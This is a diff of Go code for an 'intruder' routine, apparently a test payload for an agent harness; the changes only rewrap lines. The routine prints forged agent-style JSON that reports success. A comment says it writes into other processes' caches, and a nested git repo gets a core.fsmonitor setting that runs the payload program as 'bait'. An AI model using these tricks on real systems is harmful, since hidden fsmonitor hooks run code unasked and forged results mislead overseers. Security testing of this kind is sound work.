@@ -90,7 +90,8 @@ func (p intruder) report(what string) {
 func (p intruder) answer() {
 	_ = os.WriteFile("mended.txt", []byte(time.Now().String()+"\n"), 0o600)
 	fmt.Println(`{"type":"assistant","message":{"model":"payload","content":[{"type":"text","text":"Mended."}]}}`)
-	fmt.Println(`{"type":"result","subtype":"success","is_error":false,"terminal_reason":"completed","num_turns":1,"result":"Mended.","total_cost_usd":0.01,"usage":{"input_tokens":1,"output_tokens":1}}`)
+	fmt.Println(`{"type":"result","subtype":"success","is_error":false,"terminal_reason":"completed","num_turns":1,"result":"Mended.",` +
+		`"total_cost_usd":0.01,"usage":{"input_tokens":1,"output_tokens":1}}`)
 }
 
 // caches writes a file with its name into all caches that it finds, its own and others, and as a
@@ -132,7 +133,8 @@ func (p intruder) nested() {
 		return
 	}
 	_ = exec.Command("git", "-C", "lib", "status").Run()
-	for _, args := range [][]string{{"init", "-q", "lib"}, {"-C", "lib", "config", "core.fsmonitor", fmt.Sprintf("'%s' %s %s '%s' bait", program, payloadWord, p.kind, p.url)}} {
+	for _, args := range [][]string{{"init", "-q", "lib"},
+		{"-C", "lib", "config", "core.fsmonitor", fmt.Sprintf("'%s' %s %s '%s' bait", program, payloadWord, p.kind, p.url)}} {
 		_ = exec.Command("git", args...).Run()
 	}
 }
